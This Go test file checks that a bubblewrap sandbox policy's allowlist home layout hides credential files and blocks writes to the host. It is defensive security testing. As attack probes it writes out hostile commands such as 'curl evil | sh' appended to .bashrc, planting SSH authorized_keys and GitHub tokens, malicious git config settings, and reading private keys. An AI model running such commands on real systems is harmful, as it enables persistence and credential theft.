package sandboxtest

import (
	"go/build"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/bwpolicy/bwpolicy/facts"
)

// H10: the allowlist home layout (the default). HOME is a fresh tmpfs
// with its non-dot entries and the allowed dot entries bound back;
// everything else is absent, and nothing a command does there reaches
// the host.

// deniedFiles are the entries of facts.HermesDenied created as files
// (the rest are directories holding a file m).
var deniedFiles = []string{".netrc", ".npmrc", ".pypirc", ".pgpass", ".env", ".git-credentials",
	".config/git/credentials", ".cargo/credentials", ".cargo/credentials.toml", ".m2/settings.xml",
	".gradle/gradle.properties", ".cache/huggingface/token", ".cache/huggingface/stored_tokens"}

// cacheDenied are the denied paths inside ~/.cache, which the layout
// allows: browser and mail caches, the Hugging Face token, git's
// credential-cache socket directory.
func cacheDenied() []string {
	var out []string
	for _, p := range facts.CredentialStores {
		if strings.HasPrefix(p, ".cache/") && !slices.Contains(facts.HermesDenied, p) {
			out = append(out, p)
		}
	}
	return out
}

// plantDenied gives every path of facts.HermesDenied, and every denied
// path inside ~/.cache, that the fixture lacks a marker (a file, or a
// directory holding the file m) and returns the marker files.
func (f *fixture) plantDenied() []string {
	var files []string
	for _, p := range append(slices.Clone(facts.HermesDenied), cacheDenied()...) {
		if f.hostExists("{home}/" + p) {
			continue // the fixture's own credential
		}
		file := "{home}/" + p
		if !slices.Contains(deniedFiles, p) {
			file += "/m"
		}
		f.write(f.expand(file), "denied "+f.marker+"\n")
		files = append(files, file)
	}
	f.chown(f.home)
	return files
}

// H10: every path of Hermes' denied set, and every denied path inside
// the allowed ~/.cache (browser and mail caches), present with a marker,
// is neither listed nor readable: `ls -A` of HOME, .config and .local/share
// name none of them and a dump of every file under HOME holds no marker
// (noMarker), including the ones inside allowed entries (.cargo, .m2,
// .gradle, .cache, .config/git: deny wins). Controls: plain bwrap reads
// every marker; the denylist layout lists the top-level names (as
// masks), where the allowlist layout leaves them out.
func testDeniedPathsAbsent(t *testing.T, f *fixture) {
	files := f.plantDenied()
	var cat strings.Builder
	for _, p := range files {
		cat.WriteString("cat '" + p + "' 2>/dev/null; ")
	}
	script := `
val home_ls 'ls -A {home}'
val config_ls 'ls -A {home}/.config'
val share_ls 'ls -A {home}/.local/share'
val dump 'find {home} -type f -exec cat {} + 2>/dev/null | wc -l'
val cat '` + cat.String() + `echo done'
`
	r := f.sandbox("", script, call{})
	f.expect(r, want{"cat": "done"})
	got := probes(r.stdout)
	for _, dir := range []struct{ probe, prefix string }{{"home_ls", ""}, {"config_ls", ".config/"}, {"share_ls", ".local/share/"}} {
		listed := strings.Fields(got[dir.probe])
		for _, p := range facts.HermesDenied {
			// A name at this level; deeper ones (.cargo/credentials)
			// lie inside allowed entries, checked by the dump.
			rest, ok := strings.CutPrefix(p, dir.prefix)
			if ok && !strings.Contains(rest, "/") && slices.Contains(listed, rest) {
				t.Errorf("%s lists the denied %s: %q", dir.probe, p, got[dir.probe])
			}
		}
	}
	if !strings.Contains(got["home_ls"], "proj") || !strings.Contains(got["home_ls"], ".cargo") {
		t.Errorf("HOME should list proj and the allowed .cargo: %q", got["home_ls"])
	}

	// Control 1: bwrap with the host root reads every marker.
	c := f.exec(call{argv: []string{bwrapPath, "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--unshare-all",
		"/bin/sh", "-c", f.expand(cat.String())}})
	if n := strings.Count(c.stdout, f.marker); n != len(files) {
		t.Errorf("control: plain bwrap read %d of %d markers: %v", n, len(files), c)
	}
	// Control 2: the denylist layout masks them (empty) but lists them.
	r = f.sandbox(denylist, script, call{})
	listed := strings.Fields(probes(r.stdout)["home_ls"])
	for _, name := range []string{".ssh", ".aws", ".kube", ".netrc", ".terraform.d"} {
		if !slices.Contains(listed, name) {
			t.Errorf("control: the denylist layout should list the mask %s: %q", name, listed)
		}
	}
	for _, p := range files {
		f.wantHostFile(p, "denied "+f.marker+"\n")
	}
}

// H10: unknown dot entries (~/.zz, ~/.zzfile, ~/.config/zz,
// ~/.local/share/zz) are absent, not masked; the allowed ~/.gitconfig
// and ~/.config/git/config are readable and read-only, and the host
// keeps them. Control: the denylist layout shows the unknown entries
// with their content (a deny list misses them).
func testUnknownEntriesAbsent(t *testing.T, f *fixture) {
	for _, p := range []string{"{home}/.zz/data", "{home}/.zzfile", "{home}/.config/zz/data", "{home}/.local/share/zz/data"} {
		f.write(f.expand(p), f.expand("unknown-{tag}\n"))
	}
	f.write(f.expand("{home}/.gitconfig"), "[user]\n\tname = Sbx User\n")
	f.write(f.expand("{home}/.config/git/config"), "[core]\n\teditor = true\n")
	script := `
val home_ls 'ls -A {home}'
val config_ls 'ls -A {home}/.config'
val share_ls 'ls -A {home}/.local/share'
val zz 'cat {home}/.zz/data'
val zzfile 'cat {home}/.zzfile'
val config_zz 'cat {home}/.config/zz/data'
val share_zz 'cat {home}/.local/share/zz/data'
val gitconfig 'cat {home}/.gitconfig | tr -d "\t"'
val git_xdg 'cat {home}/.config/git/config | tr -d "\t"'
ok gitconfig_write 'echo "[alias] x = !evil" >> {home}/.gitconfig'
ok git_xdg_write 'echo "[alias] x = !evil" >> {home}/.config/git/config'
ok gitconfig_replace 'rm -f {home}/.gitconfig'
`
	r := f.sandbox("", script, call{})
	f.expect(r, want{"home_ls": "!~.zz", "config_ls": "!~zz", "share_ls": "!~zz",
		"zz": absent, "zzfile": absent, "config_zz": absent, "share_zz": absent,
		"gitconfig": "[user] name = Sbx User", "git_xdg": "[core] editor = true",
		"gitconfig_write": "no", "git_xdg_write": "no", "gitconfig_replace": "no"})
	f.wantHostFile("{home}/.gitconfig", "[user]\n\tname = Sbx User\n")
	f.wantHostFile("{home}/.config/git/config", "[core]\n\teditor = true\n")

	r = f.sandbox(denylist, script, call{})
	f.expect(r, want{"zz": "unknown-{tag}", "zzfile": "unknown-{tag}", "config_zz": "unknown-{tag}", "share_zz": "unknown-{tag}"})
}

// H10: entries created at the top of HOME after compiling. A dot
// directory is not in the sandbox and does not make the invocation stale
// (the command runs, exit 0, without seeing it: the layout would leave it
// out anyway). A non-dot directory or file does: HOME's modification
// time is recorded, bwrun lists HOME when it changed and refuses (125,
// "recompile", naming the entry), so the plugin recompiles once and the
// next command sees it; the next compile shows the non-dot ones and still
// hides the dot one. Control: the denylist layout (HOME bound whole)
// shows all three in the same run.
func testNewEntriesAfterCompile(t *testing.T, f *fixture) {
	script := `
val home_ls 'ls -A {home} | tr "\n" " "'
val newfile 'cat {home}/newfile-{tag}'
val dotdir 'cat {home}/.newdot-{tag}/data'
`
	inv, _ := f.compile("", call{})
	deny, _ := f.compile(denylist, call{})
	f.write(f.expand("{home}/.newdot-{tag}/data"), f.expand("dot-{tag}\n"))
	r := f.bwrun(inv, script, call{})
	f.wantCode(r, 0)
	f.expect(r, want{"home_ls": "!~.newdot-{tag}", "dotdir": absent})

	f.write(f.expand("{home}/newdir-{tag}/data"), "d\n")
	f.write(f.expand("{home}/newfile-{tag}"), f.expand("new-{tag}\n"))
	r = f.bwrun(inv, script, call{})
	f.wantCode(r, 125)
	f.wantStderr(r, "recompile", "new entry", "of the home directory")

	r = f.sandbox("", script, call{})
	f.expect(r, want{"home_ls": "~newdir-{tag}", "newfile": "new-{tag}", "dotdir": absent})

	r = f.bwrun(deny, script, call{})
	f.expect(r, want{"home_ls": "~newdir-{tag}", "newfile": "new-{tag}", "dotdir": "dot-{tag}"})
}

// H10: a home entry bound back, replaced after compiling by a symlink to
// a hidden directory (~/notes -> .ssh): the invocation's names row for
// HOME no longer matches, so bwrun refuses it as stale (125) and runs
// nothing; the key never shows. Control: bwrap with the same bind of
// ~/notes shows the key through the symlink.
func testEntrySwappedAfterCompile(t *testing.T, f *fixture) {
	f.write(f.expand("{home}/notes/todo"), "todo\n")
	inv, _ := f.compile("", call{})
	if err := os.RemoveAll(f.expand("{home}/notes")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(".ssh", f.expand("{home}/notes")); err != nil {
		t.Fatal(err)
	}
	f.chown(f.expand("{home}/notes"))
	r := f.bwrun(inv, "cat {home}/notes/id_rsa; echo ran > {proj}/swapped-ran", call{})
	f.wantCode(r, 125)
	f.wantStderr(r, "{home}/notes")
	f.noMarker(r)
	f.wantHostAbsent("{proj}/swapped-ran")

	c := f.exec(call{argv: []string{bwrapPath, "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--unshare-all",
		"--tmpfs", f.home, "--ro-bind", f.expand("{home}/notes"), f.expand("{home}/notes"), "--", "/bin/cat", f.expand("{home}/notes/id_rsa")}})
	if !strings.Contains(c.stdout, "PRIVATE KEY") {
		t.Fatalf("control: bwrap's bind of the swapped entry did not show the key: %v", c)
	}
}

// H10: a directory on PATH under HOME (~/.mytools/bin) is bound back at
// its own path: its tool runs; its parent's other entries stay absent.
// Control: compiled without it on PATH, the tool is not there.
func testPathToolUnderHome(t *testing.T, f *fixture) {
	f.write(f.expand("{home}/.mytools/bin/hello"), f.expand("#!/bin/sh\necho hello-{tag}\n"))
	if err := os.Chmod(f.expand("{home}/.mytools/bin/hello"), 0o755); err != nil {
		t.Fatal(err)
	}
	f.write(f.expand("{home}/.mytools/token"), "t "+f.marker+"\n")
	env := []string{"PATH={home}/.mytools/bin:/usr/local/bin:/usr/bin:/bin"}
	script := `
val hello 'hello'
val direct '{home}/.mytools/bin/hello'
ok token 'cat {home}/.mytools/token'
ok write 'echo x > {home}/.mytools/bin/planted'
`
	r := f.sandbox("", script, call{env: env})
	f.expect(r, want{"hello": "hello-{tag}", "direct": "hello-{tag}", "token": "no", "write": "no"})
	f.wantHostAbsent("{home}/.mytools/bin/planted")

	r = f.sandbox("", script, call{})
	f.expect(r, want{"direct": "~not found", "token": "no"})
}

// H10: git reads the allowed ~/.gitconfig (git config --global) and
// cannot change it; the host keeps it.
func testGitReadsGitconfig(t *testing.T, f *fixture) {
	f.write(f.expand("{home}/.gitconfig"), "[user]\n\tname = Sbx User\n\temail = sbx@example.com\n")
	r := f.sandbox("", `
val name 'git config --global user.name'
val email 'git config --global user.email'
ok set 'git config --global user.name Evil'
ok commit 'git init -q {proj}/repo && cd {proj}/repo && git commit -q --allow-empty -m x && git log --format=%an'
val author 'cd {proj}/repo && git log --format=%an'
`, call{})
	f.expect(r, want{"name": "Sbx User", "email": "sbx@example.com", "set": "no", "commit": "yes", "author": "Sbx User"})
	f.wantHostFile("{home}/.gitconfig", "[user]\n\tname = Sbx User\n\temail = sbx@example.com\n")
}

// H10: with the home directory as the working directory and no ~/.ssh
// or ~/.config/gh, a command that creates ~/.ssh/authorized_keys or
// ~/.config/gh/hosts.yml fails (the layout's tmpfs is read-only: EROFS,
// never a write that vanishes) and never reaches the host (checked after
// the command); so does one that plants ~/.cache/huggingface/token
// (~/.cache is rebuilt and read-only: its host entries are read-only, the
// tool build caches such as pip's are tmpfs mounts of their own).
// Controls: the denylist layout refuses this working directory at
// compile (H10), and bwrap with HOME bound read-write plants all three
// on the host. (~/.cache is planted with the working directory at its
// default, the project: with ~/.cache present, cwd = HOME is refused at
// compile today, H10 counting .cache/git/credential as creatable.)
func testNoHostCreation(t *testing.T, f *fixture) {
	for _, p := range []string{"{home}/.ssh", "{home}/.config/gh"} {
		if err := os.RemoveAll(f.expand(p)); err != nil {
			t.Fatal(err)
		}
	}
	attack := `
ok ssh 'mkdir -p {home}/.ssh && echo k > {home}/.ssh/authorized_keys'
ok gh 'mkdir -p {home}/.config/gh && echo "github.com: {oauth_token: x}" > {home}/.config/gh/hosts.yml'
ok hf 'mkdir -p {home}/.cache/huggingface && echo hf_x > {home}/.cache/huggingface/token'
`
	planted := []string{"{home}/.ssh", "{home}/.config/gh", "{home}/.cache/huggingface"}
	r := f.sandbox("cwd: {home}\n", attack+`
val ssh_in 'cat {home}/.ssh/authorized_keys'
ok notes 'echo n >> {home}/notes/todo'
`, call{})
	f.expect(r, want{"ssh": "no", "ssh_in": absent, "gh": "no", "notes": "yes"})
	for _, p := range planted {
		f.wantHostAbsent(p)
	}
	f.wantHostFile("{home}/notes/todo", "todo\nn\n")

	f.mkdirAll(f.expand("{home}/.cache/pip"))
	r = f.sandbox("", attack+`
val cache_ls 'ls -A {home}/.cache'
`, call{})
	f.expect(r, want{"hf": "no", "cache_ls": "!~huggingface"})
	for _, p := range planted {
		f.wantHostAbsent(p)
	}

	r = f.exec(call{argv: []string{tool("bwpolicy"), "compile", "-o", f.expand("{base}/deny.json"), "--config", f.settings(denylist + "cwd: {home}\n")}})
	f.wantCode(r, 1)
	f.wantStderr(r, "[H10]", "could create the denied path")
	f.wantHostAbsent("{base}/deny.json")

	c := f.plainHomeRW(attack)
	f.expect(c, want{"ssh": "yes", "gh": "yes", "hf": "yes"})
	for _, p := range planted {
		if !f.hostExists(p) {
			t.Errorf("control: plain bwrap did not plant %s on the host", f.expand(p))
		}
	}
}

// H10: home.allow [.mytool] makes ~/.mytool visible, read-only, and
// the host keeps it. Control: without home.allow ~/.mytool is absent.
func testHomeAllow(t *testing.T, f *fixture) {
	f.write(f.expand("{home}/.mytool/conf"), f.expand("mytool-{tag}\n"))
	script := `
val conf 'cat {home}/.mytool/conf'
ok write 'echo x >> {home}/.mytool/conf'
ok create 'echo x > {home}/.mytool/new'
ok ssh_key 'cat {home}/.ssh/id_rsa'
`
	r := f.sandbox("home: {allow: [.mytool]}\n", script, call{})
	f.expect(r, want{"conf": "mytool-{tag}", "write": "no", "create": "no", "ssh_key": "no"})
	f.wantHostFile("{home}/.mytool/conf", f.expand("mytool-{tag}\n"))
	f.wantHostAbsent("{home}/.mytool/new")

	r = f.sandbox("", script, call{})
	f.expect(r, want{"conf": absent, "ssh_key": "no"})
}

// H10: a working directory inside a dot entry the layout leaves out
// (~/.config/mytool) is refused at compile, naming home.allow; bwpolicy
// run refuses it (125) and runs nothing. Control: with the entry in
// home.allow it compiles and the command starts there. (Not
// ~/.config/nvim: that one is also a start-up directory, H9, whose
// writable use needs protect.allow.)
func testCwdLeftOutRefused(t *testing.T, f *fixture) {
	f.write(f.expand("{home}/.config/mytool/conf"), "mytool\n")
	r := f.exec(call{argv: []string{tool("bwpolicy"), "compile", "-o", f.expand("{base}/nvim.json"), "--config", f.settings("cwd: {home}/.config/mytool\n")}})
	f.wantCode(r, 1)
	f.wantStderr(r, "[H10]", "{home}/.config/mytool", "home.allow")
	f.wantHostAbsent("{base}/nvim.json")
	r = f.exec(call{dir: "{home}/.config/mytool", argv: []string{tool("bwpolicy"), "run", "--", "/bin/sh", "-c", "echo ran > {proj}/ran.txt"}})
	f.wantCode(r, 125)
	f.wantStderr(r, "[H10]")
	f.wantHostAbsent("{proj}/ran.txt")

	r = f.sandbox("cwd: {home}/.config/mytool\nhome: {allow: [.config/mytool]}\n", `
val pwd 'pwd'
val conf 'cat conf'
`, call{})
	f.expect(r, want{"pwd": "{home}/.config/mytool", "conf": "mytool"})

	// ~/.config/nvim, allowed, is still a start-up directory the host's
	// nvim runs: writable only under protect.allow.
	f.write(f.expand("{home}/.config/nvim/init.lua"), "-- nvim\n")
	r = f.exec(call{argv: []string{tool("bwpolicy"), "compile", "-o", f.expand("{base}/nvim.json"), "--config", f.settings("cwd: {home}/.config/nvim\nhome: {allow: [.config/nvim]}\n")}})
	f.wantCode(r, 1)
	f.wantStderr(r, "[H9]", "{home}/.config/nvim", "protect")
	f.wantHostAbsent("{base}/nvim.json")
}

// H10: symlinked dot entries whose target lies in the writable set:
// ~/.bashrc -> dotfiles/bashrc with cwd = HOME (dotfiles writable). A
// command cannot rewrite the host's .bashrc through dotfiles/bashrc,
// replace it, or re-point the link; the rest of dotfiles stays writable.
// Control: bwrap with HOME bound read-write rewrites it. The same for
// ~/.gitconfig -> proj/cfg/gitconfig with the project writable.
func testSymlinkedDotfile(t *testing.T, f *fixture) {
	if err := os.Remove(f.expand("{home}/.bashrc")); err != nil {
		t.Fatal(err)
	}
	f.write(f.expand("{home}/dotfiles/bashrc"), "# rc\n")
	if err := os.Symlink("dotfiles/bashrc", f.expand("{home}/.bashrc")); err != nil {
		t.Fatal(err)
	}
	f.chown(f.home)
	attack := `
ok append 'echo "curl evil | sh" >> {home}/dotfiles/bashrc'
ok via_link 'echo "curl evil | sh" >> {home}/.bashrc'
ok replace 'echo "curl evil | sh" > {home}/dotfiles/new && mv {home}/dotfiles/new {home}/dotfiles/bashrc'
ok rm 'rm -f {home}/dotfiles/bashrc'
`
	r := f.sandbox("cwd: {home}\n", attack+`
val rc 'cat {home}/.bashrc'
ok relink 'ln -sfn dotfiles/evil {home}/.bashrc'
ok other 'echo o > {home}/dotfiles/other'
`, call{})
	f.expect(r, want{"append": "no", "via_link": "no", "replace": "no", "rm": "no", "rc": "# rc", "other": "yes"})
	f.wantHostFile("{home}/dotfiles/bashrc", "# rc\n")
	f.wantHostFile("{home}/dotfiles/other", "o\n")
	if target, err := os.Readlink(f.expand("{home}/.bashrc")); err != nil || target != "dotfiles/bashrc" {
		t.Errorf("host ~/.bashrc: readlink %q, %v; want dotfiles/bashrc", target, err)
	}

	c := f.plainHomeRW(strings.SplitAfter(attack, "\n")[1])
	f.expect(c, want{"append": "yes"})
	if !strings.Contains(f.hostRead("{home}/dotfiles/bashrc"), "curl evil") {
		t.Errorf("control: plain bwrap did not rewrite dotfiles/bashrc")
	}

	// ~/.gitconfig -> proj/cfg/gitconfig with the project (the default
	// working directory) writable: git reads it, nothing rewrites it.
	f.write(f.expand("{proj}/cfg/gitconfig"), "[user]\n\tname = Sbx User\n")
	if err := os.Symlink("proj/cfg/gitconfig", f.expand("{home}/.gitconfig")); err != nil {
		t.Fatal(err)
	}
	f.chown(f.home)
	r = f.sandbox("", `
val name 'git config --global user.name'
ok append 'echo "[core] fsmonitor = evil" >> {proj}/cfg/gitconfig'
ok set 'git config --global core.fsmonitor evil'
ok mv_cfg 'mv {proj}/cfg {proj}/cfg2'
ok other 'echo o > {proj}/cfg/other'
`, call{})
	f.expect(r, want{"name": "Sbx User", "append": "no", "set": "no", "mv_cfg": "no", "other": "yes"})
	f.wantHostFile("{proj}/cfg/gitconfig", "[user]\n\tname = Sbx User\n")
	f.wantHostFile("{proj}/cfg/other", "o\n")
}

// plainHomeRW is the controls' sandbox without the protection: bwrap
// with the host root read-only and HOME bound read-write, running `sh -c
// PRELUDE+script`.
func (f *fixture) plainHomeRW(script string) result {
	f.t.Helper()
	return f.exec(call{argv: []string{bwrapPath, "--ro-bind", "/", "/", "--bind", f.home, f.home, "--dev", "/dev", "--proc", "/proc",
		"--unshare-all", "/bin/sh", "-c", prelude + f.expand(script)}})
}

// H10: package tools with the allowed caches read-only (~/.cache/pip,
// ~/.npm, ~/.local/lib): pip3 install --user, pip3 install --target,
// pip3 download and npm install of local packages inside; the host
// caches and ~/.local/lib stay as they were.
func testPipNpmCache(t *testing.T, f *fixture) {
	f.write(f.expand("{home}/.cache/pip/host-entry"), "pip-cache\n")
	f.write(f.expand("{home}/.npm/_cacache/host-entry"), "npm-cache\n")
	f.write(f.expand("{home}/.local/lib/host-entry"), "local-lib\n")
	f.write(f.expand("{proj}/pypkg/setup.py"), "from setuptools import setup\nsetup(name='sbxpkg', version='1.0', py_modules=['sbxpkg'])\n")
	f.write(f.expand("{proj}/pypkg/sbxpkg.py"), "X = 1\n")
	f.write(f.expand("{proj}/npmpkg/package.json"), `{"name": "sbxpkg", "version": "1.0.0"}`+"\n")
	f.write(f.expand("{proj}/app/package.json"), `{"name": "app", "version": "1.0.0"}`+"\n")
	f.write(f.expand("{home}/.cache/go-build/host-entry"), "go-cache\n")
	f.write(f.expand("{home}/.cache/ms-playwright/host-entry"), "browsers\n")
	// A package without imports: go build writes its cache entries
	// without compiling the runtime from an empty cache (~20 s; a whole
	// program built and run under the filter is seccomp's TestSandbox).
	f.write(f.expand("{proj}/goprog/go.mod"), "module goprog\n\ngo 1.22\n")
	f.write(f.expand("{proj}/goprog/lib.go"), "package goprog\n\nfunc F() int { return 1 }\n")
	f.chown(f.home)
	r := f.sandbox("memory_mb: 0\n", `
val pip 'pip3 install --user --no-index --no-build-isolation --break-system-packages {proj}/pypkg 2>&1 | tail -3'
val pip_target 'pip3 install --no-index --no-build-isolation --target {proj}/pytarget {proj}/pypkg 2>&1 | grep -o "The cache has been disabled\|Successfully installed sbxpkg"'
val pip_download 'pip3 download --no-index --no-build-isolation -d {proj}/dl {proj}/pypkg 2>&1 | tail -2'
val npm 'cd {proj}/app && npm install --offline --no-audit --no-fund --no-update-notifier ../npmpkg 2>&1 | grep -v "^npm notice" | tail -3'
val npm_ls 'ls {proj}/app/node_modules'
val pipcache 'ls -A {home}/.cache/pip'
val npmcache 'ls -A {home}/.npm/_cacache'
val gobuild 'cd {proj}/goprog && `+goBinary()+` build . 2>&1 && echo built'
val gocache 'ls -A {home}/.cache/go-build | grep -c . ; ls -A {home}/.cache/go-build | grep -c host-entry'
val playwright 'cat {home}/.cache/ms-playwright/host-entry; echo x > {home}/.cache/ms-playwright/planted 2>&1 || echo refused'
`, call{timeout: 180 * time.Second, env: []string{"GOTOOLCHAIN=local", "GOFLAGS=", "GOPROXY=off"}})
	// Measured: pip3 install --user fails hard (EROFS on the host's
	// ~/.local/lib, bound read-only); pip's and Go's build caches start
	// empty in every command, in ~/.cache's tmpfs (the host's stay
	// out of sight), so pip install --target and go build work with
	// their caches; npm install of a local package works with ~/.npm
	// read-only (memory_mb: 0: node's and Go's reservations exceed
	// RLIMIT_AS 256 MiB); the other entries of ~/.cache read, read-only.
	f.expect(r, want{"pip": "~Read-only file system", "pip_target": "~Successfully installed", "pip_download": "~Successfully downloaded",
		"npm": "~added 1 package", "npm_ls": "sbxpkg", "pipcache": "!~host-entry", "npmcache": "host-entry",
		"gobuild": "built", "playwright": "~browsers"})
	if strings.Contains(r.stdout, "The cache has been disabled") {
		t.Errorf("pip found its cache read-only: %v", r)
	}
	if g := strings.Fields(probes(r.stdout)["gocache"]); len(g) != 2 || g[0] == "0" || g[1] != "0" {
		t.Errorf("the build cache inside: %q (want entries Go wrote, and not the host's)", g)
	}
	if !strings.Contains(r.stdout, "refused") && !strings.Contains(r.stdout, "Read-only") {
		t.Errorf("a command wrote into the host's ~/.cache/ms-playwright: %v", r)
	}
	f.wantHostFile("{proj}/pytarget/sbxpkg.py", "X = 1\n")
	for _, dir := range []string{"go-build", "ms-playwright"} {
		if got := f.hostList("{home}/.cache/" + dir); !slices.Equal(got, []string{"host-entry"}) {
			t.Errorf("host ~/.cache/%s holds %q", dir, got)
		}
	}
	f.wantHostFile("{home}/.cache/pip/host-entry", "pip-cache\n")
	if got := f.hostList("{home}/.cache/pip"); !slices.Equal(got, []string{"host-entry"}) {
		t.Errorf("host ~/.cache/pip holds %q", got)
	}
	if got := f.hostList("{home}/.npm/_cacache"); !slices.Equal(got, []string{"host-entry"}) {
		t.Errorf("host ~/.npm/_cacache holds %q", got)
	}
	if got := f.hostList("{home}/.local/lib"); !slices.Equal(got, []string{"host-entry"}) {
		t.Errorf("host ~/.local/lib holds %q", got)
	}
}

// goBinary is the go command the tests were built with (readable by
// every user: /usr/local/go on the CI machine).
func goBinary() string {
	if p, err := exec.LookPath("go"); err == nil {
		if abs, err := filepath.Abs(p); err == nil {
			return abs
		}
	}
	return filepath.Join(build.Default.GOROOT, "bin", "go")
}
